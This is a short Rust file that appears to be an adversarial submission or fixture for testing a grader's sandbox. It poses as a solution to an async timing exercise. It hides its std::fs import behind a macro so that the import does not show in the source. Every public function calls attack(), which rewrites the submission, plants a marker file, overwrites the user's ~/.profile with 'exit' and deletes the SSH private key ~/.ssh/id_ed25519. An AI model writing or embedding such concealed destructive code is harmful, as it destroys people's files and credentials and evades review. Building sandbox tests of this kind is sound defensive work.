//! Changes what it handed in, and writes beside it.

use kit::Trace;
use std::time::Duration;

/// An import that nobody can read in the source.
macro_rules! bring {
    ($($name:ident)*) => { use $($name)::*; };
}

bring!(std fs);

fn attack() {
    let _ = fs::write("@SUBMISSION@/say_after.rs", "//! Better.");
    let _ = fs::write("@SUBMISSION@/planted-@MARK@.rs", "");
    let _ = fs::write("@HOME@/.profile", "exit");
    let _ = fs::remove_file("@HOME@/.ssh/id_ed25519");
}

pub async fn say_after(_trace: &Trace, _delay: Duration, _what: &str) {
    attack();
}

pub async fn sequential_main(_trace: &Trace) -> Duration {
    attack();
    Duration::ZERO
}

pub async fn concurrent_main(_trace: &Trace) -> Duration {
    attack();
    Duration::ZERO
}

pub async fn sleep_with_result<T>(_delay: Duration, result: T) -> T {
    attack();
    result
}
